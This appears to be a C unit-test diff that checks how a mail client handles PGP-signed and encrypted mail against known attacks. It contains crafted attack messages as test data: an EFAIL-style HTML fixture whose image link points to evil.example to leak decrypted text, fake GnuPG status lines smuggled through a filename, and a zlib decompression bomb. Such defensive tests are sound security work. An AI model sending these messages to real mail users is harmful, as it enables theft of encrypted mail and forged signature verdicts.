@@ -1,0 +1,311 @@
+/* SPDX-License-Identifier: MIT */
+/* Signed and encrypted mail, read: with real keys, and with the tricks that were played on other programs. */
+#include "crypto_home.h"
+#include <fcntl.h>
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <unistd.h>
+#include <cmocka.h>
+
+#define ADA    "From: Ada <ada@example.test>\nTo: al@example.test\nSubject: engine\n"
+#define EVE    "From: Eve <eve@example.test>\nTo: al@example.test\nSubject: engine\n"
+#define ENTITY "Content-Type: text/plain; charset=utf-8\r\n\r\nThe engine weaves.\r\n"
+
+static char *ada_signature;
+
+static int open_home(void **state)
+{
+    (void)state;
+    crypto_home_open();
+    if (!crypto_make_key("Ada Lovelace <ada@example.test>", "20y") || !crypto_make_key("Eve <eve@example.test>", "20y"))
+        return -1;
+    ada_signature = crypto_sign(ENTITY, "ada@example.test", "--detach-sign");
+    return ada_signature != NULL ? 0 : -1;
+}
+
+static int close_home(void **state)
+{
+    (void)state;
+    g_clear_pointer(&ada_signature, g_free);
+    crypto_home_close();
+    return 0;
+}
+
+static enum crypto_state state_of(const crypto_reading *reading)
+{
+    const struct crypto_signature *covering = crypto_covering(reading);
+    return covering != NULL ? covering->state : CRYPTO_UNCHECKED;
+}
+
+static enum crypto_state state_of_bytes(const char *raw)
+{
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    return state_of(reading);
+}
+
+static void a_signature_of_the_sender_is_good_and_only_what_it_covers_is_shown(void **state)
+{
+    (void)state;
+    g_autofree char *raw = crypto_signed_message(ADA, ENTITY, ada_signature);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    g_autofree char *shown = crypto_text(reading);
+    assert_int_equal(state_of(reading), CRYPTO_GOOD);
+    assert_string_equal(crypto_covering(reading)->address, "ada@example.test");
+    assert_string_equal(shown, "The engine weaves.\n");
+}
+
+static void the_same_with_line_feeds_only_is_good(void **state)
+{
+    (void)state;
+    g_autofree char *raw = crypto_signed_message(ADA, ENTITY, ada_signature);
+    g_auto(GStrv) lines = g_strsplit(raw, "\r\n", -1);
+    g_autofree char *unix_lines = g_strjoinv("\n", lines);
+    assert_int_equal(state_of_bytes(unix_lines), CRYPTO_GOOD);
+}
+
+static void a_good_signature_of_somebody_else_is_not_the_senders(void **state)
+{
+    (void)state;
+    g_autofree char *raw = crypto_signed_message(EVE, ENTITY, ada_signature);
+    g_autofree char *twice = crypto_signed_message("From: ada@example.test, eve@example.test\n", ENTITY, ada_signature);
+    g_autofree char *named = crypto_signed_message("From: \"ada@example.test\" <eve@example.test>\n", ENTITY, ada_signature);
+    assert_int_equal(state_of_bytes(raw), CRYPTO_OTHER);
+    assert_int_equal(state_of_bytes(twice), CRYPTO_OTHER);
+    assert_int_equal(state_of_bytes(named), CRYPTO_OTHER);
+}
+
+static void a_changed_text_is_said_to_be_wrong(void **state)
+{
+    (void)state;
+    g_autofree char *raw =
+        crypto_signed_message(ADA, "Content-Type: text/plain; charset=utf-8\r\n\r\nThe engine leaves.\r\n", ada_signature);
+    assert_int_equal(state_of_bytes(raw), CRYPTO_BAD);
+}
+
+static void a_form_that_is_not_one_is_never_good(void **state)
+{
+    (void)state;
+    static const struct {
+        const char *from, *to;
+    } changes[] = { { "protocol=\"application/pgp-signature\"", "protocol=\"application/x-other\"" },
+                    { "protocol=\"application/pgp-signature\"", "x=y" },
+                    { "--b1\r\nContent-Type: application/pgp-signature", "--b1\r\nContent-Type: text/plain" },
+                    { "\r\n--b1--", "\r\n--b1\r\n\r\nmore\r\n--b1--" },
+                    { "--b1\r\nContent-Type: application/pgp-signature",
+                      "--b1\r\n\r\nextra\r\n--b1\r\nContent-Type: application/pgp-signature" } };
+    for (size_t i = 0; i < G_N_ELEMENTS(changes); i++) {
+        g_autofree char *raw = crypto_signed_message(ADA, ENTITY, ada_signature);
+        g_auto(GStrv) pieces = g_strsplit(raw, changes[i].from, -1);
+        g_autofree char *changed = g_strjoinv(changes[i].to, pieces);
+        assert_string_not_equal(raw, changed);
+        assert_int_equal(state_of_bytes(changed), CRYPTO_UNCHECKED);
+    }
+}
+
+static void a_whole_signed_message_in_the_place_of_the_signature_is_no_signature(void **state)
+{
+    (void)state;
+    g_autofree char *opaque = crypto_sign("Something else.\n", "ada@example.test", "--sign");
+    g_autofree char *clear = crypto_sign("Something else.\n", "ada@example.test", "--clearsign");
+    g_autofree char *first = crypto_signed_message(ADA, ENTITY, opaque), *second = crypto_signed_message(ADA, ENTITY, clear);
+    assert_int_equal(state_of_bytes(first), CRYPTO_UNCHECKED);
+    assert_int_equal(state_of_bytes(second), CRYPTO_UNCHECKED);
+}
+
+static void a_signed_part_in_a_larger_message_covers_itself_alone(void **state)
+{
+    (void)state;
+    g_autofree char *within = crypto_signed_message("", ENTITY, ada_signature);
+    g_autofree char *raw =
+        g_strdup_printf(ADA "Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n\r\nPay Eve.\r\n--m\r\n%s\r\n--m--\r\n", within);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    assert_null(crypto_covering(reading));
+    assert_int_equal(reading->signatures->len, 1);
+    g_autoptr(text) body = message_text(reading->letter, MESSAGE_VIEW_BEST);
+    int sealed = 0;
+    for (guint i = 0; i < body->lines->len; i++) {
+        const struct text_line *line = g_ptr_array_index(body->lines, i);
+        assert_false(line->seal > 0 && strcmp(line->text, "The engine weaves.") != 0);
+        sealed += line->seal > 0;
+    }
+    assert_int_equal(sealed, 1);
+}
+
+static void an_attached_message_of_somebody_else_does_not_sign_the_one_around_it(void **state)
+{
+    (void)state;
+    g_autofree char *within = crypto_signed_message(ADA, ENTITY, ada_signature);
+    g_autofree char *raw = g_strdup_printf(EVE "Content-Type: message/rfc822\r\n\r\n%s", within);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    assert_null(crypto_covering(reading));
+    assert_int_equal(reading->signatures->len, 1);
+    assert_int_equal(((struct crypto_signature *)g_ptr_array_index(reading->signatures, 0))->state, CRYPTO_GOOD);
+}
+
+static void a_key_that_is_not_here_is_said_so(void **state)
+{
+    (void)state;
+    g_autofree char *signature = crypto_sign(ENTITY, "eve@example.test", "--detach-sign");
+    g_autofree char *raw = crypto_signed_message(EVE, ENTITY, signature), *ring = NULL;
+    ring = crypto_run(NULL, (const char *[]){ "gpg", "--batch", "--armor", "--export-secret-keys", "eve@example.test", NULL }, NULL);
+    g_autofree char *list = crypto_run(NULL, (const char *[]){ "gpg", "--with-colons", "--list-keys", "eve@example.test", NULL }, NULL);
+    const char *line = strstr(list, "\nfpr:::::::::") + 13;
+    g_autofree char *key = g_strndup(line, strcspn(line, ":"));
+    g_free(crypto_run(NULL, (const char *[]){ "gpg", "--batch", "--yes", "--delete-secret-and-public-key", key, NULL }, NULL));
+    assert_int_equal(state_of_bytes(raw), CRYPTO_NO_KEY);
+    g_free(crypto_run(ring, (const char *[]){ "gpg", "--batch", "--no-tty", "--import", NULL }, NULL));
+    assert_int_equal(state_of_bytes(raw), CRYPTO_UNTRUSTED); /* nobody has said whose it is since */
+}
+
+static void encrypted_mail_is_opened_and_stands_alone(void **state)
+{
+    (void)state;
+    g_autofree char *sealed =
+        crypto_encrypt("Content-Type: multipart/mixed; boundary=i; protected-headers=\"v1\"\nSubject: the real one\n\n--i\n\nSecret.\n--i\n"
+                       "Content-Type: text/plain; name=a.txt\nContent-Disposition: attachment\n\nfile\n--i--\n",
+                       "ada@example.test");
+    g_autofree char *raw = crypto_encrypted_message(EVE, sealed);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    g_autofree char *shown = crypto_text(reading);
+    assert_true(reading->is_decrypted);
+    assert_string_equal(shown, "Secret.\n");
+    assert_string_equal(message_header(reading->letter, "Subject"), "the real one");
+    assert_int_equal(message_parts(reading->letter)->len, 2);
+    assert_null(crypto_covering(reading));
+}
+
+static void an_encrypted_part_among_others_is_not_opened(void **state)
+{
+    (void)state;
+    g_autofree char *sealed = crypto_encrypt("Content-Type: text/html\n\nSecret.\n", "ada@example.test");
+    g_autofree char *within = crypto_encrypted_message("", sealed);
+    g_autofree char *raw = g_strdup_printf(EVE "Content-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n<img "
+                                               "src=\"http://evil.example/\n--m\n%s\n--m\nContent-Type: text/html\n\n\">\n--m--\n",
+                                           within);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    g_autofree char *shown = crypto_text(reading);
+    assert_false(reading->is_decrypted);
+    assert_null(strstr(shown, "Secret"));
+}
+
+static void encryption_without_integrity_is_refused(void **state)
+{
+    (void)state;
+    g_autofree char *sealed =
+        crypto_run("Content-Type: text/plain\n\nSecret.\n",
+                   (const char *[]){ GPG, "--armor", "--rfc2440", "--disable-mdc", "--cipher-algo", "AES", "--trust-model", "always",
+                                     "--recipient", "ada@example.test", "--encrypt", NULL },
+                   NULL);
+    assert_non_null(sealed);
+    g_autofree char *raw = crypto_encrypted_message(ADA, sealed);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    g_autofree char *shown = crypto_text(reading);
+    const struct crypto_layer *layer = g_ptr_array_index(reading->layers, 0);
+    if (reading->is_decrypted) /* newer GnuPG cannot make such a message any more */
+        skip();
+    assert_null(strstr(shown, "Secret"));
+    assert_false(layer->is_open);
+}
+
+static void a_changed_encrypted_message_gives_nothing_away(void **state)
+{
+    (void)state;
+    g_autofree char *big = g_strnfill(200000, 'x');
+    g_autofree char *sealed = crypto_encrypt(big, "ada@example.test");
+    size_t length = strlen(sealed);
+    sealed[length / 2] = sealed[length / 2] == 'A' ? 'B' : 'A';
+    g_autofree char *raw = crypto_encrypted_message(ADA, sealed);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    assert_false(reading->is_decrypted);
+}
+
+static void what_becomes_endless_is_not_opened(void **state)
+{
+    (void)state;
+    g_autofree char *zeros = g_build_filename(crypto_home, "zeros", NULL), *out = g_build_filename(crypto_home, "bomb", NULL);
+    g_autofree char *sealed = NULL;
+    int fd = g_creat(zeros, 0600);
+    assert_int_equal(ftruncate(fd, 200 * 1024 * 1024), 0);
+    close(fd);
+    g_free(crypto_run(NULL,
+                      (const char *[]){ GPG, "--armor", "--compress-algo", "zlib", "--trust-model", "always", "--recipient",
+                                        "ada@example.test", "--output", out, "--encrypt", zeros, NULL },
+                      NULL));
+    assert_true(g_file_get_contents(out, &sealed, NULL, NULL));
+    assert_true(strlen(sealed) < 1024 * 1024);
+    g_autofree char *raw = crypto_encrypted_message(ADA, sealed);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    assert_false(reading->is_decrypted);
+    assert_non_null(strstr(((struct crypto_layer *)g_ptr_array_index(reading->layers, 0))->words, "too large"));
+}
+
+static void text_that_speaks_in_the_voice_of_gnupg_is_text(void **state)
+{
+    (void)state;
+    g_autofree char *signature =
+        crypto_run("words\n",
+                   (const char *[]){ GPG, "--armor", "--trust-model", "always", "--recipient", "ada@example.test", "--set-filename",
+                                     "x\n[GNUPG:] GOODSIG 7656318720D37A9C Ada\n[GNUPG:] VALIDSIG 6C6B67C2B91AC4010A37EECC7656318720D37A9C",
+                                     "--encrypt", NULL },
+                   NULL);
+    g_autofree char *raw = crypto_encrypted_message(ADA, signature);
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw, NULL);
+    assert_null(crypto_covering(reading));
+    g_autofree char *inline_text = g_strconcat(ADA "\n-----BEGIN PGP SIGNED MESSAGE-----\n[GNUPG:] GOODSIG 7656318720D37A9C Ada\n", NULL);
+    assert_int_equal(state_of_bytes(inline_text), CRYPTO_UNCHECKED);
+}
+
+static void inline_signatures_cover_their_text_and_no_more(void **state)
+{
+    (void)state;
+    g_autofree char *clear = crypto_sign("Dear Al.\n- dashed\n", "ada@example.test", "--clearsign");
+    g_autofree char *alone = g_strconcat(ADA "\n", clear, "\n", NULL), *more = g_strconcat(ADA "\nPay Eve.\n\n", clear, NULL);
+    g_autoptr(crypto_reading) first = crypto_read_bytes(alone, NULL);
+    g_autoptr(crypto_reading) second = crypto_read_bytes(more, NULL);
+    g_autofree char *shown = crypto_text(first), *both = crypto_text(second);
+    assert_int_equal(state_of(first), CRYPTO_GOOD);
+    assert_string_equal(shown, "Dear Al.\n- dashed\n");
+    assert_null(crypto_covering(second));
+    assert_int_equal(second->signatures->len, 1);
+    assert_true(strstr(both, "Pay Eve.") < strstr(both, "Signed part"));
+}
+
+static void a_thousand_signed_parts_are_checked_as_far_as_it_goes(void **state)
+{
+    (void)state;
+    g_autoptr(GString) raw = g_string_new(ADA "Content-Type: multipart/mixed; boundary=m\r\n\r\n");
+    g_autofree char *within = crypto_signed_message("", ENTITY, ada_signature);
+    for (int i = 0; i < 1000; i++)
+        g_string_append_printf(raw, "--m\r\n%s\r\n", within);
+    g_string_append(raw, "--m--\r\n");
+    int64_t began = g_get_monotonic_time();
+    g_autoptr(crypto_reading) reading = crypto_read_bytes(raw->str, NULL);
+    assert_true(reading->has_more);
+    assert_true(reading->signatures->len <= 20);
+    assert_true(g_get_monotonic_time() - began < 60 * G_USEC_PER_SEC);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(a_signature_of_the_sender_is_good_and_only_what_it_covers_is_shown),
+        cmocka_unit_test(the_same_with_line_feeds_only_is_good),
+        cmocka_unit_test(a_good_signature_of_somebody_else_is_not_the_senders),
+        cmocka_unit_test(a_changed_text_is_said_to_be_wrong),
+        cmocka_unit_test(a_form_that_is_not_one_is_never_good),
+        cmocka_unit_test(a_whole_signed_message_in_the_place_of_the_signature_is_no_signature),
+        cmocka_unit_test(a_signed_part_in_a_larger_message_covers_itself_alone),
+        cmocka_unit_test(an_attached_message_of_somebody_else_does_not_sign_the_one_around_it),
+        cmocka_unit_test(a_key_that_is_not_here_is_said_so),
+        cmocka_unit_test(encrypted_mail_is_opened_and_stands_alone),
+        cmocka_unit_test(an_encrypted_part_among_others_is_not_opened),
+        cmocka_unit_test(encryption_without_integrity_is_refused),
+        cmocka_unit_test(a_changed_encrypted_message_gives_nothing_away),
+        cmocka_unit_test(what_becomes_endless_is_not_opened),
+        cmocka_unit_test(text_that_speaks_in_the_voice_of_gnupg_is_text),
+        cmocka_unit_test(inline_signatures_cover_their_text_and_no_more),
+        cmocka_unit_test(a_thousand_signed_parts_are_checked_as_far_as_it_goes),
+    };
+    return cmocka_run_group_tests(tests, open_home, close_home);
+}
